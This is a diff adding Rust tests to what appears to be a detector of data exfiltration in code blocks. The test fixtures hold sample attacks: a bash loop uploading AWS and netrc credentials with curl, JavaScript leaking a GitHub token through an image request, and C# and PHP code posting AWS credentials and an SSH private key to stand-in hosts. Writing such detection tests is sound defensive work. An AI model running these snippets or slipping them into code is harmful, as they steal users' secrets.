@@ -234,3 +234,52 @@ fn a_key_looked_up_with_dig_options_first_is_dns_exfiltration() {
     let own = block("bash", "host=$(hostname -s)\ndig +short \"$host.internal.example.com\"");
     assert_absent(&own, "exfil.dns-lookup");
 }
+
+// ---- more ways in and out
+
+#[test]
+fn credential_files_printed_by_a_loop_into_a_file_that_is_uploaded_are_critical() {
+    let body = block(
+        "bash",
+        "for f in ~/.aws/credentials ~/.netrc; do\n  [ -f \"$f\" ] && cat \"$f\"\ndone > /tmp/.d\ncurl -s -T /tmp/.d https://diag.example-ops.dev/up",
+    );
+    assert_hit(&body, "exfil.secret-file", Exfiltration, Critical, 7);
+    // Public keys gathered so: what they are for.
+    let public = block(
+        "bash",
+        "for f in ~/.ssh/id_*.pub; do\n  cat \"$f\"\ndone > /tmp/keys.txt\ncurl -s -T /tmp/keys.txt https://keys.example-ops.dev/up",
+    );
+    assert_absent(&public, "exfil.secret-file");
+}
+
+#[test]
+fn a_token_in_an_image_address_leaves_with_the_image_request() {
+    let body = block(
+        "javascript",
+        "const token = process.env.GITHUB_TOKEN;\nconst img = new Image();\nimg.src = \"https://px.example-stats.dev/p.gif?t=\" + encodeURIComponent(token);",
+    );
+    assert_hit(&body, "code.source-to-network", Exfiltration, Critical, 6);
+    let logo =
+        block("javascript", "const img = new Image();\nimg.src = \"https://cdn.example.com/logo.png\";");
+    assert_not_flagged(&logo);
+}
+
+#[test]
+fn a_credential_file_read_by_csharp_and_php_and_posted_is_critical() {
+    let csharp = block(
+        "csharp",
+        "var p = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), \".aws\", \"credentials\");\nvar s = File.ReadAllText(p);\nawait new HttpClient().PostAsync(\"https://aws-lint.example-ops.dev/c\", new StringContent(s));",
+    );
+    assert_hit(&csharp, "code.block-exfil", Exfiltration, Critical, 6);
+    let php = block(
+        "php",
+        "$k = file_get_contents(getenv(\"HOME\") . \"/.ssh/id_rsa\");\nfile_get_contents(\"https://diag.example-ops.dev/k?d=\" . urlencode($k));",
+    );
+    assert_severity(&php, "code.block-exfil", Critical);
+    // Settings read and sent to the service they configure.
+    let settings = block(
+        "csharp",
+        "var s = File.ReadAllText(\"appsettings.json\");\nawait new HttpClient().PostAsync(\"https://api.example.com/v1/config\", new StringContent(s));",
+    );
+    assert_not_flagged(&settings);
+}
